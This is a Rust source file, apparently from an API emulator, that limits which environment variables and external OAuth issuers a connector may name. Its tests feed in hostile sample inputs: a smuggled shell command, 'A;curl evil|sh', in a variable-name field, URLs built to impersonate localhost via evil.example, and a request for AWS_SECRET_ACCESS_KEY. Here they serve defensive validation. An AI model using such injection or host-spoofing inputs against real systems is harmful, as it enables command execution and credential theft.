//! What the emulator may use from outside of itself: variables of its environment, and providers elsewhere. The command
//! line alone says so. A seed or a kept state may have come with a repository, and the API is open to every program of
//! this user; what they name besides is refused.

use std::collections::BTreeMap;
use std::net::IpAddr;

use secrecy::{ExposeSecret, SecretString};
use serde_json::Value;

use super::world::{Problem, Step, World};

/// The keys of a connector's `data` that name a variable.
const VARIABLES: [&str; 3] = ["client_secret_env", "private_key_env", "api_key_env"];
/// Those that say where a provider is.
const ISSUERS: [&str; 2] = ["issuer", "service_url"];

/// What the command line allows.
#[derive(Debug, Clone, Default)]
pub struct Outside {
    secrets: BTreeMap<String, SecretString>,
    issuers: Vec<String>,
}

impl Outside {
    /// The variables that may be used, with what is in them, and the issuers besides those on this machine.
    pub fn new(secrets: BTreeMap<String, SecretString>, issuers: Vec<String>) -> Self {
        Self { secrets, issuers: issuers.into_iter().map(|issuer| without_slash(&issuer).to_owned()).collect() }
    }

    /// What is in a variable, if it may be used.
    pub(super) fn secret(&self, name: &str) -> Option<&str> {
        self.secrets.get(name).map(ExposeSecret::expose_secret)
    }

    /// Whether a provider may be asked, and sent what is its connector's.
    pub(super) fn allows_issuer(&self, issuer: &str) -> bool {
        is_on_this_machine(issuer) || self.names_issuer(issuer)
    }

    /// Whether the command line names it: by all of its URL, since others may have theirs at the same host.
    pub(super) fn names_issuer(&self, issuer: &str) -> bool {
        self.issuers.iter().any(|named| named == without_slash(issuer))
    }

    /// What a world names without leave.
    pub(super) fn problems(&self, world: &World) -> Vec<Problem> {
        let mut problems = Vec::new();
        for (i, connector) in world.connectors.iter().enumerate() {
            let given = |keys: &[&'static str]| -> Vec<(&'static str, Value)> {
                keys.iter().filter_map(|key| Some((*key, connector.data.get(*key)?.clone()))).collect()
            };
            let mut wrong = |key, message| {
                let path = vec![Step::Key("connectors"), Step::Item(i), Step::Key("data"), Step::Key(key)];
                problems.push(Problem { path, message });
            };
            for (key, value) in given(&VARIABLES) {
                match value.as_str().filter(|name| is_variable(name)) {
                    Some(name) if self.secrets.contains_key(name) => {}
                    Some(name) => wrong(
                        key,
                        format!("`{key}` names a variable of your environment: allow it with --secret-from-env {name}"),
                    ),
                    None => wrong(key, format!("`{key}` must be the name of a variable")),
                }
            }
            for (key, value) in given(&ISSUERS) {
                match value.as_str() {
                    Some(issuer) if self.allows_issuer(issuer) => {}
                    Some(issuer) => wrong(
                        key,
                        format!("the provider {issuer:?} is not on this machine: allow it with --allow-issuer URL"),
                    ),
                    None => wrong(key, format!("`{key}` must be a URL")),
                }
            }
        }
        problems
    }

    /// Judges what the API wants to put into a connector's data: never the name of a variable; and of a connector whose
    /// secret is in one, never where that is sent. An error says what is wrong.
    pub(super) fn judge(&self, data: &BTreeMap<String, Value>, before: &BTreeMap<String, Value>) -> Result<(), String> {
        if let Some(key) = VARIABLES.iter().find(|key| data.contains_key(**key)) {
            return Err(format!(
                "`data.{key}` names a variable of the emulator's environment, which only a seed may do, with --secret-from-env"
            ));
        }
        let has_variable = VARIABLES.iter().any(|key| before.contains_key(*key));
        for (key, value) in ISSUERS.iter().filter_map(|key| Some((key, data.get(*key)?))) {
            if has_variable && before.get(*key) != Some(value) {
                return Err(format!("`data.{key}` is for the seed alone to say, since the secret is in a variable"));
            }
            if !value.as_str().is_some_and(|issuer| self.allows_issuer(issuer)) {
                return Err(format!(
                    "`data.{key}` must be on this machine, or be allowed when the emulator starts, with --allow-issuer"
                ));
            }
        }
        Ok(())
    }
}

/// Whether the command line may name this issuer: secrets go by HTTPS, or stay on this machine.
pub fn is_issuer(url: &str) -> bool {
    let is_https = parsed(url).is_some_and(|uri| uri.scheme_str() == Some("https") && uri.query().is_none());
    is_https || is_on_this_machine(url)
}

/// Whether a variable can have this name.
pub fn is_variable(name: &str) -> bool {
    let is_plain = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
    !name.is_empty() && !name.starts_with(|c: char| c.is_ascii_digit()) && name.bytes().all(is_plain)
}

/// Whether a URL leads to this machine whatever any resolver says.
pub(super) fn is_on_this_machine(url: &str) -> bool {
    let is_web = |uri: &http::Uri| matches!(uri.scheme_str(), Some("http" | "https"));
    parsed(url).filter(is_web).is_some_and(|uri| uri.host().is_some_and(is_loopback_name))
}

/// A URL with a host and nobody's name or password.
fn parsed(url: &str) -> Option<http::Uri> {
    let uri: http::Uri = url.parse().ok()?;
    uri.authority().is_some_and(|authority| !authority.as_str().contains('@')).then_some(uri)
}

/// Whether a host's name means the machine that it is said on.
pub(super) fn is_loopback_name(host: &str) -> bool {
    let bare = host.strip_prefix('[').and_then(|host| host.strip_suffix(']')).unwrap_or(host);
    host.eq_ignore_ascii_case("localhost") || bare.parse::<IpAddr>().is_ok_and(|ip| ip.is_loopback())
}

fn without_slash(url: &str) -> &str {
    url.strip_suffix('/').unwrap_or(url)
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::emulator::world::Connector;

    fn outside() -> Outside {
        let secrets = BTreeMap::from([("ALLOWED".to_owned(), SecretString::from("s3cret"))]);
        Outside::new(secrets, vec!["https://login.example.com/acme/".into()])
    }

    fn data(of: &Value) -> BTreeMap<String, Value> {
        of.as_object().expect("an object").clone().into_iter().collect()
    }

    #[test]
    fn a_world_names_only_what_the_command_line_names() {
        for (given, says) in [
            (json!({"api_key_env": "ALLOWED"}), None),
            (json!({"api_key_env": "HOME"}), Some("--secret-from-env HOME")),
            (json!({"client_secret_env": "AWS_SECRET_ACCESS_KEY"}), Some("--secret-from-env AWS_SECRET_ACCESS_KEY")),
            (json!({"private_key_env": "allowed"}), Some("--secret-from-env allowed")),
            (json!({"private_key_env": "A;curl evil|sh"}), Some("must be the name of a variable")),
            (json!({"private_key_env": ["ALLOWED"]}), Some("must be the name of a variable")),
            (json!({"issuer": "https://login.example.com/acme"}), None),
            (json!({"issuer": "https://login.example.com/evil"}), Some("--allow-issuer")),
            (json!({"service_url": "https://evil.example"}), Some("--allow-issuer")),
            (json!({"issuer": 7}), Some("must be a URL")),
            (json!({"issuer": "http://127.0.0.1:9"}), None),
            (json!({"api_key": "made up", "other_env": "HOME", "serverUrl": "https://mcp.example"}), None),
        ] {
            let mut world = World::demo();
            world.connectors = vec![Connector { data: data(&given), ..Connector::new("oauth/x", "scl_x", "prj_web") }];
            let problems = outside().problems(&world);
            match says {
                None => assert_eq!(problems, [], "{given}"),
                Some(says) => {
                    assert!(problems.len() == 1 && problems[0].message.contains(says), "{given}: {problems:?}");
                }
            }
        }
    }

    #[test]
    fn the_api_names_no_variable_and_does_not_move_a_secret() {
        let seeded = json!({"client_secret_env": "ALLOWED", "issuer": "https://login.example.com/acme"});
        for (given, before, is_taken) in [
            (json!({"scopes": ["read"], "api_key": "made up"}), json!({}), true),
            (json!({"api_key_env": "ALLOWED"}), json!({}), false),
            (json!({"client_secret_env": null}), seeded.clone(), false),
            (json!({"issuer": "http://127.0.0.1:9"}), json!({}), true),
            (json!({"issuer": "https://login.example.com/acme"}), json!({}), true),
            (json!({"issuer": "https://evil.example"}), json!({}), false),
            (json!({"service_url": "https://evil.example"}), json!({}), false),
            (json!({"issuer": "http://127.0.0.1:9"}), seeded.clone(), false),
            (json!({"service_url": "http://127.0.0.1:9"}), seeded.clone(), false),
            (json!({"issuer": "http://127.0.0.1:9"}), json!({"private_key_env": "ALLOWED"}), false),
            (json!({"issuer": "https://login.example.com/acme", "scopes": []}), seeded, true),
        ] {
            let judged = outside().judge(&data(&given), &data(&before));
            assert_eq!(judged.is_ok(), is_taken, "{given} after {before}: {judged:?}");
        }
    }

    #[test]
    fn only_what_can_lead_nowhere_else_is_on_this_machine() {
        for (url, is) in [
            ("http://127.0.0.1:9/oauth", true),
            ("http://LOCALHOST:9", true),
            ("https://[::1]", true),
            ("http://127.9.9.9", true),
            ("http://127.0.0.1.evil.example", false),
            ("http://localhost.evil.example", false),
            ("http://127.0.0.1@evil.example", false),
            ("http://localhost:9@evil.example/", false),
            ("http://evil.example/127.0.0.1", false),
            ("http://0.0.0.0:9", false),
            ("http://10.0.0.1", false),
            ("ftp://127.0.0.1", false),
            ("127.0.0.1:9", false),
            ("/oauth", false),
            ("", false),
        ] {
            assert_eq!(is_on_this_machine(url), is, "{url}");
        }
        for (url, is) in [
            ("https://login.example.com/tenant", true),
            ("http://login.example.com", false),
            ("https://login.example.com?x", false),
            ("https://a:b@login.example.com", false),
            ("login.example.com", false),
            ("http://127.0.0.1:9", true),
        ] {
            assert_eq!(is_issuer(url), is, "{url}");
        }
    }
}
